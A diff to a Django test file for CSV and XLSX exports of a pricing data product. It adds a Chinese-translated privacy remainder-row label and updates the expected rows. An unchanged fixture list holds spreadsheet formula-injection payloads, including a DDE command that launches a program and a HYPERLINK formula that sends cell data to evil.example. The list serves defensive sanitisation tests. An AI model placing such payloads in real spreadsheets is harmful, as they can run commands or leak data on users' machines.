@@ -12,7 +12,8 @@ from decimal import Decimal as D
 import openpyxl
 from django.test import Client
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
+from django.utils.translation import gettext
 
 from conftest import PASSWORD, api_as
 from dataproducts.models import Subscription, UsageRecord
@@ -22,6 +23,8 @@ from tenants.context import brain_context
 from tenants.spreadsheets import csv_bytes, xlsx_bytes
 from tests.support import url
 
+with translation.override("zh-hans"):  # the remainder row's label, as the pages show it
+    OTHER = gettext("Other (merged to protect privacy)")
 EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)",
         "\t=1", "\r=1"]
 
@@ -124,12 +127,12 @@ def test_the_csv_is_the_published_revision_with_the_remainder_row_and_formula_sa
     assert answer.content.startswith("\ufeff".encode())
     table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
     assert table[0] == ["工序", "材料类别", "月份", "单价中位数", "25 分位", "75 分位", "企业数", "明细行数"]
-    assert table[1] == ["CNC", "塑料模具钢", "2026-11", "185.00", "160.00", "210.00", "7", "42"]
+    assert table[1] == ["CNC铣削", "塑料模具钢", "2026-11", "185.00", "160.00", "210.00", "7", "42"]
     assert table[3][3] == "'" + ROWS[2][1]["median"]  # a formula in the data is text here
-    assert len(table) == 1 + len(ROWS) + 1 and table[-1][1:3] == ["", ""] and table[-1][3] == "98.00"
+    assert len(table) == 1 + len(ROWS) + 1 and table[-1][:4] == [OTHER, "", "", "98.00"]
     book = openpyxl.load_workbook(io.BytesIO(api_as(alice).get(url("data-product-rows-xlsx", on_request.pk)).content))
     values = [[cell.value for cell in row] for row in book.active.iter_rows()]
-    assert values[1] == ["CNC", "塑料模具钢", "2026-11", 185, 160, 210, 7, 42]
+    assert values[1] == ["CNC铣削", "塑料模具钢", "2026-11", 185, 160, 210, 7, 42]
     assert values[3][3] == ROWS[2][1]["median"] and len(values) == len(ROWS) + 2
 
 
